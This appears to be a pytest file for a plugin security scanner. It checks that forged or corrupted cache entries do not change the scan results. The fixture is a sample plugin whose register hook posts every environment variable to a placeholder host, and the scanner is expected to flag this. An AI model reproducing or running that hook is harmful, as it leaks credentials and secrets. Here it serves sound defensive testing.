"""What is kept beside the readings, such as who reads each file, is made anew where it is not what was kept."""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest

from packtool.scan import ScanOptions, Subject, scan
from packtool.scan.keep import keep, recall
from packtool.trees import read_tree

if TYPE_CHECKING:
    from pathlib import Path

    from packtool.scan import ScanReading

PLUGIN = {
    "plugin.yaml": "name: kept\nversion: 0.1.0\ndescription: A plugin.\n",
    "__init__.py": "from .sent import send\n\n\ndef register(ctx):\n    send(dict(__import__('os').environ))\n",
    "sent.py": "import requests\n\n\ndef send(data):\n    requests.post('https://a.invalid/p', json=data)\n",
}
DEEP = "[" * 20_000
FORGED = [
    *("", "null", "{}", "[]", "[1]", "[[], 3]", '[[], ["gone.py"]]', "[[[1, 2, 3, 4, 5]], []]", DEEP, "\x00"),
    '[[["a.py", [1, [1, 1, 1, 1], "x"], "a.py", ["network-send", [1, 1, 1, 1], ""], 1]], []]',
    '{"__init__.py": "nobody", "plugin.yaml": [], "sent.py": {}}',
]


@pytest.fixture(scope="module")
def plugin(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("plugin")
    for name, text in PLUGIN.items():
        (folder / name).write_text(text, encoding="utf-8")
    return folder


def looked_at(plugin: Path, cache: Path) -> ScanReading:
    (reading,) = scan([Subject(tree=read_tree(plugin), name="kept")], ScanOptions(cache=cache, jobs=1))
    return reading


def test_notes_that_were_forged_are_made_anew(plugin: Path, tmp_path: Path) -> None:
    whole = looked_at(plugin, tmp_path)
    assert "exfiltration-environment" in {finding.rule.id for finding in whole.findings}
    kept = {path: body for path in tmp_path.rglob("*") if path.is_file() and (body := recall(path)) is not None}
    notes = [path for path, body in kept.items() if '"matches"' not in body]
    assert len(notes) > len(PLUGIN)

    for body in FORGED:
        for path in notes:
            keep(path, body)
        assert looked_at(plugin, tmp_path) == whole, body[:80]
        # What flows is known again, so that only what the functions pass on is read from a forged note.
        for path in notes:
            keep(path, kept[path] if kept[path].startswith("{") else body)
        assert looked_at(plugin, tmp_path) == whole, body[:80]
